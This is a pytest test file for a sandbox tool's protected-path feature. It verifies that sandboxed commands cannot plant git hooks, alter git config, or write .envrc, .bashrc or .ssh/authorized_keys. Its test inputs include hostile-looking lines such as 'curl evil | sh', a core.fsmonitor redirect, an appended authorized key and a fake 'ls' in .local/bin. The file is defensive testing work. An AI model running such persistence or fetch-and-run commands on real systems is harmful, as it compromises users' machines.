@@ -1,0 +1,173 @@
+"""Protected paths (security.protect) with real git: what a sandbox cannot plant in the directory it may
+write, and that nothing of the protection is left on the host afterwards."""
+
+import os
+import signal
+import subprocess
+
+import pytest
+
+from conftest import command_stderr, rootsand_argv, run, sandbox, still_running
+
+HOME = os.path.expanduser("~")
+
+
+def git(directory, *args) -> str:
+    return subprocess.run(["git", "-C", str(directory), *args], capture_output=True, text=True, check=True,
+                          env={"PATH": "/usr/bin:/bin", "HOME": str(directory), "GIT_CONFIG_NOSYSTEM": "1"}).stdout
+
+
+def env_in(directory) -> dict:
+    return {**os.environ, "PWD": str(directory), "LC_ALL": "C"}
+
+
+@pytest.fixture
+def repo(tmp_path):
+    path = tmp_path / "project"
+    path.mkdir()
+    git(path, "init", "-q")
+    (path / "main.c").write_text("int main(void) { return 0; }\n")
+    git(path, "add", "main.c")
+    git(path, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", "one")
+    return path
+
+
+def listing(directory) -> list[str]:
+    return sorted(os.listdir(directory))
+
+
+def test_hooks_git_config_and_envrc_cannot_be_planted_but_the_project_is_writable(repo):
+    hooks_before = listing(repo / ".git" / "hooks")
+    config_before = (repo / ".git" / "config").read_text()
+    status_before = git(repo, "status", "--porcelain")
+    script = ("echo evil > .git/hooks/pre-commit; echo evil >> .git/hooks/pre-commit.sample; "
+              "echo '[core] hooksPath = /tmp' >> .git/config; echo 'curl evil | sh' > .envrc; "
+              "mv .git .git-old; mkdir -p .vscode/x; echo built > main.o; echo ok")
+    r = sandbox("sh", "-c", script, cwd=repo, env=env_in(repo))
+    assert r.returncode == 0
+    assert command_stderr(r) == [
+        "sh: 1: cannot create .git/hooks/pre-commit: Read-only file system",
+        "sh: 1: cannot create .git/hooks/pre-commit.sample: Read-only file system",
+        "sh: 1: cannot create .git/config: Read-only file system",
+        "sh: 1: cannot create .envrc: Read-only file system",
+        "mv: cannot move '.git' to '.git-old': Device or resource busy",
+        "mkdir: cannot create directory '.vscode/x': Read-only file system"]
+    assert r.stdout == "ok\n"
+    assert (repo / "main.o").read_text() == "built\n"
+    # On the host: the hooks and config as they were, nothing stray, git sees only the build's file.
+    assert listing(repo / ".git" / "hooks") == hooks_before
+    assert (repo / ".git" / "config").read_text() == config_before
+    assert listing(repo) == [".git", "main.c", "main.o"]
+    assert git(repo, "status", "--porcelain") == status_before + "?? main.o\n"
+
+
+def test_git_config_cannot_be_changed_through_git_itself(repo):
+    r = sandbox("git", "config", "core.fsmonitor", "/tmp/evil", cwd=repo, env=env_in(repo))
+    assert r.returncode != 0
+    assert "could not" in r.stderr or "Read-only" in r.stderr or "busy" in r.stderr, r.stderr
+    assert "fsmonitor" not in (repo / ".git" / "config").read_text()
+
+
+def test_in_a_directory_without_git_no_repository_can_be_planted(tmp_path):
+    r = sandbox("sh", "-c", "mkdir -p .git/hooks; git init -q . 2>/dev/null; echo $?; ls -a", cwd=tmp_path,
+                env=env_in(tmp_path))
+    assert r.returncode == 0
+    assert command_stderr(r) == ["mkdir: cannot create directory '.git/hooks': Read-only file system"]
+    assert r.stdout.split() == ["128", ".", "..", ".envrc", ".git", ".gitmodules", ".idea", ".vscode"]
+    assert listing(tmp_path) == []  # the mount points made for the run are gone
+
+
+def test_verbose_lists_the_protected_paths(repo):
+    r = sandbox("true", opts=["-v"], cwd=repo, env=env_in(repo), check_rc=0)
+    lines = [line for line in r.stderr.splitlines() if line.startswith("rootsand: protected:")]
+    assert lines == [f"rootsand: protected: {repo}/.git/hooks (read-only)",
+                     f"rootsand: protected: {repo}/.git/config (read-only)"] + [
+        f"rootsand: protected: {repo}/{name} (read-only, made for the run, removed at exit)"
+        for name in (".gitmodules", ".envrc", ".vscode", ".idea")]
+
+
+def test_unprotect_lifts_one_path(repo):
+    r = sandbox("sh", "-c", "echo 'export A=1' > .envrc", opts=["--unprotect", ".envrc"], cwd=repo, env=env_in(repo))
+    assert (r.returncode, command_stderr(r)) == (0, [])
+    assert (repo / ".envrc").read_text() == "export A=1\n"
+    r = sandbox("true", opts=["--unprotect", ".git/hook"], cwd=repo, env=env_in(repo))
+    assert (r.returncode, r.stderr.splitlines()[0]) == (125, "rootsand: error: --unprotect .git/hook: not a protected "
+                                                             "path of this profile")
+
+
+def test_a_protected_path_that_is_a_link_is_refused(repo):
+    (repo / "envrc.real").write_text("export A=1\n")
+    (repo / ".envrc").symlink_to("envrc.real")
+    r = sandbox("true", cwd=repo, env=env_in(repo))
+    assert (r.returncode, r.stderr.splitlines()) == (125, [
+        f"rootsand: error: the protected path {repo}/.envrc is a symbolic link, which the sandbox could point elsewhere",
+        "rootsand: hint: replace the link, or --unprotect .envrc"])
+    assert listing(repo) == [".envrc", ".git", "envrc.real", "main.c"]
+
+
+def start(directory, *extra):
+    """A sandbox that runs until killed: the launcher, and PID 1's host pid once the command runs."""
+    proc = subprocess.Popen(rootsand_argv() + ["run", "-v", *extra, "--", "sh", "-c", "echo ready; exec sleep 600"],
+                            cwd=directory, env=env_in(directory), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE, text=True)
+    pid1 = None
+    for line in proc.stderr:
+        if "PID 1 is" in line:
+            pid1 = int(line.split("PID 1 is ")[1].split()[0])
+            break
+    assert proc.stdout.readline() == "ready\n"
+    return proc, pid1
+
+
+def stop(proc, sig=signal.SIGTERM):
+    proc.send_signal(sig)
+    proc.wait(timeout=30)
+    proc.stdout.close()
+    proc.stderr.close()
+
+
+def test_what_a_killed_launcher_made_is_removed_by_the_next_command(tmp_path):
+    proc, pid1 = start(tmp_path)
+    try:
+        assert ".envrc" in listing(tmp_path)
+        proc.kill()
+        proc.wait()
+        assert still_running([pid1], 10) == []
+        assert ".envrc" in listing(tmp_path)  # nobody was there to remove it ...
+        run(["ps"], check_rc=0)  # ... until the next command reads the registry
+        assert listing(tmp_path) == []
+    finally:
+        stop(proc, signal.SIGKILL)
+
+
+def test_two_sandboxes_sharing_a_directory_keep_each_others_protection(tmp_path):
+    first, _ = start(tmp_path)
+    second, _ = start(tmp_path)
+    try:
+        stop(first)  # it made .envrc; the second covers it too: it must stay while the second runs
+        assert ".envrc" in listing(tmp_path)
+        names = run(["ps", "-q"], check_rc=0).stdout.split()
+        assert len(names) == 1
+        r = run(["exec", names[0], "sh", "-c", "echo evil > .envrc"], check_rc=None)
+        assert "Read-only file system" in r.stderr
+        assert (tmp_path / ".envrc").read_text() == ""
+    finally:
+        stop(second)
+    assert listing(tmp_path) == []
+
+
+def test_from_home_the_shell_files_are_protected():
+    before = listing(HOME)
+    r = sandbox("sh", "-c", "echo evil >> .bashrc; echo evil >> .profile; mkdir -p .ssh; "
+                "echo key >> .ssh/authorized_keys; mkdir -p .local/bin; echo x > .local/bin/ls; echo ok > ok.txt",
+                cwd=HOME, env=env_in(HOME))
+    try:
+        assert r.stdout == "" and r.returncode == 0
+        errors = command_stderr(r)
+        assert "sh: 1: cannot create .bashrc: Read-only file system" in errors
+        assert "sh: 1: cannot create .ssh/authorized_keys: Read-only file system" in errors
+        assert "sh: 1: cannot create .local/bin/ls: Read-only file system" in errors
+        assert (os.path.join(HOME, "ok.txt")) and open(os.path.join(HOME, "ok.txt")).read() == "ok\n"
+        assert listing(HOME) == sorted(before + ["ok.txt"])
+    finally:
+        os.unlink(os.path.join(HOME, "ok.txt"))
